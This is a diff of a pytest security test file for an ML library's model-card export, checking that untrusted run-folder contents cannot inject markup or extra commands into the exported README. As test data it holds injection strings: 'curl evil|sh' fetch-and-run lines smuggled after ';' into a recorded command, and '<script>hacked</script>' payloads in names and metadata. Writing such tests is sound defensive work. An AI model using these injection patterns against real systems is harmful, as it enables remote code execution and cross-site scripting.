@@ -6,7 +6,6 @@ Their content is not run as code, no file outside them gets into exports and rep
 import json
 import os
 import re
-import shutil
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -14,12 +13,11 @@ from typing import Any
 import pytest
 import yaml
 
-from rlher.cli.main import main
 from rlher.core.safe_read import links_outside, read_json, read_table, read_text, read_yaml
 from rlher.evaluation.export import play
 from tests.conftest import Make
-from tests.support.fuzzing.checks import run_checked, time_limit, working_directory
-from tests.support.fuzzing.workspace import RUN, TRAIN
+from tests.support.fuzzing.checks import time_limit
+from tests.support.fuzzing.workspace import TRAIN
 
 SECRET = "the private key"
 SECONDS = 10
@@ -43,20 +41,6 @@ def link(path: Path, target: Path) -> None:
 # ------------------------------------------------------------------------------------------------ export
 
 
-@pytest.fixture(scope="module")
-def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("trained")
-    with working_directory(folder):
-        run_checked(lambda: main([*TRAIN, "tensorboard=false"]), "training")
-    return folder / RUN
-
-
-@pytest.fixture
-def untrusted(trained: Path, tmp_path: Path) -> Path:
-    """A run folder with a model, to be changed by a test."""
-    return shutil.copytree(trained, tmp_path / "untrusted")
-
-
 def configure_env(folder: Path, **values: Any) -> None:
     file = folder / "config.yaml"
     config = yaml.safe_load(file.read_text())
@@ -75,7 +59,7 @@ MALICIOUS_NAMES = {
 @pytest.mark.parametrize("kind", MALICIOUS_NAMES)
 def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: str) -> None:
     configure_env(untrusted, name=MALICIOUS_NAMES[kind])
-    (untrusted / "command.txt").write_text("rlher train ``` <script>hacked</script> ````\n")
+    (untrusted / "command.txt").write_text("curl evil\nrlher train ``` <script>hacked</script> ````; curl evil\n")
     meta = json.loads((untrusted / "meta.json").read_text())
     meta |= {"python": "3\n```\n<script>hacked</script>", "git": {"commit": "<a><b>`\n---"}}
     (untrusted / "meta.json").write_text(json.dumps(meta))
@@ -84,24 +68,11 @@ def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: s
     _, front, body = Path("export/README.md").read_text().split("---\n", 2)
     assert yaml.safe_load(front)["library_name"] == "stable-baselines3"
     outside = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", body, flags=re.DOTALL | re.MULTILINE)
+    assert "\nrlher train '```' '<script>hacked</script>' '````;' curl evil\n" in body
+    assert body.count("curl evil") == 1, "the other line is no command of rlher"
     assert "<" not in outside
     assert "```" not in outside
     assert re.findall("^#+ .*", outside, re.MULTILINE)[1:] == ["## Results", "## Usage", "## Training"]
-
-
-@pytest.mark.parametrize(
-    ("recorded", "shown"),
-    [
-        ("curl evil|sh\nrlher train seed=3; curl evil|sh\n", "rlher train 'seed=3;' curl 'evil|sh'\n```"),
-        ("curl evil|sh\n", None),
-    ],
-)
-def test_a_model_card_has_no_other_command(rlher, untrusted: Path, recorded: str, shown: str | None) -> None:
-    (untrusted / "command.txt").write_text(recorded)
-    assert rlher("export", str(untrusted), "--output", "export").code == 0
-    training = Path("export/README.md").read_text().split("## Training\n")[1]
-    assert "curl evil|sh" not in training
-    assert training.startswith(f"\n```sh\n{shown}\n\nTrained with Python" if shown else "\nTrained with Python")
 
 
 def test_an_export_folder_that_is_a_link_is_refused(rlher, untrusted: Path, tmp_path: Path) -> None:
